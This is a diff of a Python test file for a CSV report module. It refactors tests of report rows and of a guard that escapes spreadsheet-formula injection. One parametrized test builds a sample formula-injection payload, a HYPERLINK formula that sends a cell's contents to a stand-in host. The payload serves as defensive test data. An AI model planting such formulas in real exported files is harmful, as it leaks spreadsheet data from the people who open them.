@@ -2,6 +2,7 @@
 
 import csv
 import io
+from typing import Any
 
 import pytest
 from hypothesis import given
@@ -30,13 +31,16 @@ def test_the_columns_are_the_contract() -> None:
 
 
 def test_a_succeeded_row_names_its_images_and_the_call_that_made_them() -> None:
+    call: dict[str, Any] = {
+        "provider": "openai",
+        "endpoint": "openai-main",
+        "model": "gpt-image-1.5",
+    }
     row = report_row(
         7,
         cells=("a.jpg",),
         outputs=("jobs/p/images/a.png", "jobs/p/images/a-1.png"),
-        provider="openai",
-        endpoint="openai-main",
-        model="gpt-image-1.5",
+        **call,
         fallback=True,
         attempts=2,
         latency_ms=8123,
@@ -44,22 +48,11 @@ def test_a_succeeded_row_names_its_images_and_the_call_that_made_them() -> None:
         possible_duplicate_charges=1,
     )
     assert manifest_of(row, columns=("image_url",)) == [
-        {
-            "image_url": "a.jpg",
-            "row": "7",
-            "status": "succeeded",
-            "reason": "",
-            "detail": "",
-            "output": "jobs/p/images/a.png|jobs/p/images/a-1.png",
-            "provider": "openai",
-            "endpoint": "openai-main",
-            "model": "gpt-image-1.5",
-            "fallback": "true",
-            "attempts": "2",
-            "latency_ms": "8123",
-            "cost_usd": "0.039000",
-            "possible_duplicate_charges": "1",
-        }
+        call
+        | {"image_url": "a.jpg", "row": "7", "status": "succeeded", "reason": "", "detail": ""}
+        | {"output": "jobs/p/images/a.png|jobs/p/images/a-1.png", "fallback": "true"}
+        | {"attempts": "2", "latency_ms": "8123", "cost_usd": "0.039000"}
+        | {"possible_duplicate_charges": "1"}
     ]
 
 
@@ -81,25 +74,26 @@ def test_a_manifest_used_as_input_keeps_every_value() -> None:
     assert again[0] == "sku"
 
 
-@pytest.mark.parametrize("start", FORMULA_STARTS)
-def test_cells_that_a_spreadsheet_would_run_become_text(start: str) -> None:
-    formula = f'{start}HYPERLINK("http://x.test?"&A1)'
-    assert guard(formula) == f"'{formula}"
+@pytest.mark.parametrize(
+    "cell",
+    [
+        *(f'{start}HYPERLINK("http://x.test?"&A1)' for start in FORMULA_STARTS),
+        *("-5+A1", "+49 171 1234", "-", "=5", "-٣", "--1", "@5", "+"),
+    ],
+)
+def test_cells_that_a_spreadsheet_would_run_become_text(cell: str) -> None:
+    assert guard(cell) == f"'{cell}"
 
 
-@pytest.mark.parametrize("number", ["-5", "+1", "-5.25", "-1,000.50", "+1e-7", "-12%", "-.5"])
-def test_plain_numbers_stay_numbers(number: str) -> None:
-    assert guard(number) == number
-
-
-@pytest.mark.parametrize("text", ["-5+A1", "+49 171 1234", "-", "=5", "-٣", "--1", "@5", "+"])
-def test_anything_but_a_plain_number_is_guarded(text: str) -> None:
-    assert guard(text) == f"'{text}"
-
-
-@pytest.mark.parametrize("text", ["", "plain", "a=b", "5-3", "'quoted'", " =no", "'"])
-def test_harmless_cells_are_untouched(text: str) -> None:
-    assert guard(text) == text
+@pytest.mark.parametrize(
+    "cell",
+    [
+        *("-5", "+1", "-5.25", "-1,000.50", "+1e-7", "-12%", "-.5"),
+        *("", "plain", "a=b", "5-3", "'quoted'", " =no", "'"),
+    ],
+)
+def test_plain_numbers_and_harmless_cells_are_untouched(cell: str) -> None:
+    assert guard(cell) == cell
 
 
 @given(st.text(alphabet=st.sampled_from("=+-@'\t\r\n1a. \uff1d"), max_size=6))
